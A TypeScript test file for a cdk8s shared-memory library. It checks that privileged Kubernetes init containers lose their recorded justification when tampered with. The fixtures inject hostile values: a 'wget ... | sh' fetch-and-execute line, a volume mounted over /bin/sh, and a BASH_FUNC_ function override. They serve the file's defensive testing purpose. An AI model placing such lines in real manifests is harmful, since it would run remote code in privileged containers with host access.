import { Size } from 'cdk8s';
import { Backing, NodeAgent, NodeCleanup, SharedMemory } from '../../src';
import type { JsonObject } from '../../src/kube/json';
import { manifestsOf } from '../../src/kube/manifest';
import { UNMOUNT } from '../../src/model/node/cleanup-scripts';
import { HOLD } from '../../src/model/node/node-task';
import { hostPrivileges } from '../../src/read/host-privileges';
import { ManifestSet } from '../../src/read/manifest-set';
import { MarkedManifests } from '../../src/sharing/marked-manifests';
import { privilegeReasons } from '../../src/sharing/privilege-reasons';
import { AGENT, chart, contract, rendered, TOOLS, type Rendered } from '../yaml';

/** Why the containers of a workload are privileged, by container. */
function whyPrivileged(object: Rendered) {
  const marked = new MarkedManifests(new ManifestSet(manifestsOf(object as JsonObject)));
  return marked.pods.flatMap(markedPod =>
    hostPrivileges(markedPod.pod)
      .filter(({ kind }) => kind === 'privileged')
      .map(privilege => [
        privilege.container,
        privilegeReasons(marked, markedPod, privilege).map(({ because }) => because),
      ]),
  );
}

function agent(): Rendered {
  const c = chart();
  new NodeAgent(c, 'agent', {
    contract: contract({
      memory: [
        SharedMemory.files({
          name: 'table',
          size: Size.mebibytes(1),
          mountPath: '/run/routes',
          backing: Backing.tmpfs(),
        }),
      ],
    }),
    toolImage: TOOLS,
    containers: [AGENT],
  });
  return rendered(c, 'DaemonSet')[0];
}
const mountStep = (object: Rendered) =>
  object.spec.template.spec.initContainers.find((each: Rendered) => each.name.startsWith('mount-'));

test('the step that mounts a tmpfs is known by the propagation of its mount, not by its name', () => {
  const renamed = agent();
  mountStep(renamed).name = 'anything';
  expect(whyPrivileged(agent())).toEqual([['mount-routes', ['mountStep']]]);
  expect(whyPrivileged(renamed)).toEqual([['anything', ['mountStep']]]);
});

test('a step whose script somebody changed has no reason', () => {
  const object = agent();
  mountStep(object).command[2] += 'wget -O - http://example.com | sh\n';
  expect(whyPrivileged(object)).toEqual([['mount-routes', []]]);
});

test.each([
  ['a volume with programs', { volumeMounts: [{ name: 't', mountPath: '/usr/local/sbin' }] }],
  [
    'a volume over the shell',
    { volumeMounts: [{ name: 't', mountPath: '/bin/sh', subPath: 'sh' }] },
  ],
  ['a function of bash', { env: [{ name: 'BASH_FUNC_awk%%', value: '() { evil; }' }] }],
  ['another folder', { workingDir: '/tmp' }],
])('a step that runs programs of somebody else has no reason: %s', (_, more) => {
  const object = agent();
  const step = mountStep(object);
  for (const [field, value] of Object.entries(more)) {
    step[field] = Array.isArray(value) ? [...(step[field] ?? []), ...value] : value;
  }
  expect(whyPrivileged(object)).toEqual([['mount-routes', []]]);
});

test('a step whose variables say something else than the mark has no reason', () => {
  const object = agent();
  mountStep(object).env.find((each: Rendered) => each.name === 'MEMORIES').value =
    'table:0777:1024';
  expect(whyPrivileged(object)).toEqual([['mount-routes', []]]);
});

test('a privileged step that mounts nothing for others has no reason', () => {
  const object = agent();
  delete mountStep(object).volumeMounts[0].mountPropagation;
  expect(whyPrivileged(object)).toEqual([['mount-routes', []]]);
});

test('the same privileges in an ordinary container of a node task have no reason', () => {
  const task = (
    where: 'initContainers' | 'containers',
    label = 'yes',
    script: string = UNMOUNT,
    key = 'example.com/cleanup',
  ) => ({
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: {
      name: 'cleanup',
      annotations: {
        'cdk8s-shared-memory/node-task': `{"apiVersion":"cdk8s-shared-memory/v1","task":"cleanup","contracts":["ring"],"nodes":{"key":"${key}","value":"yes"}}`,
      },
    },
    spec: {
      nodeSelector: { [key]: label },
      containers: [{ name: 'done', image: 'i', command: ['sh', '-euc', HOLD] }],
      [where]: [
        {
          name: 'unmount',
          image: 'i',
          command: ['sh', '-euc', script],
          securityContext: { privileged: true },
        },
      ],
    },
  });
  expect(whyPrivileged(task('initContainers'))).toEqual([['unmount', ['unmount']]]);
  expect(whyPrivileged(task('containers'))).toEqual([['unmount', []]]);
  // whose pods run on other nodes is no task, whatever its annotation says
  expect(whyPrivileged(task('initContainers', 'no'))).toEqual([['unmount', []]]);
  expect(whyPrivileged(task('initContainers', 'yes', UNMOUNT, 'kubernetes.io/arch'))).toEqual([
    ['unmount', []], // all nodes have such a label
  ]);
  // nor has another script a reason
  expect(whyPrivileged(task('initContainers', 'yes', `wget; ${UNMOUNT}`))).toEqual([
    ['unmount', []],
  ]);
});

test('the check of a cleanup has reasons for its capabilities, and for the profile that it does not have', () => {
  const c = chart();
  new NodeCleanup(c, 'cleanup', { contract: contract(), toolImage: TOOLS });
  expect(whyAll(rendered(c, 'DaemonSet')[0], 'check')).toEqual([
    ['unconfinedProfile', ['unconfined']],
    ['rootUser', ['look']],
    ['capability', ['look']],
    ['capability', ['look']],
  ]);
});

/** Why a container has each of its privileges, by kind. */
function whyAll(object: Rendered, name: string) {
  const marked = new MarkedManifests(new ManifestSet(manifestsOf(object as JsonObject)));
  return marked.pods.flatMap(markedPod =>
    hostPrivileges(markedPod.pod)
      .filter(({ container }) => container === name)
      .map(privilege => [
        privilege.kind,
        privilegeReasons(marked, markedPod, privilege).map(({ because }) => because),
      ]),
  );
}
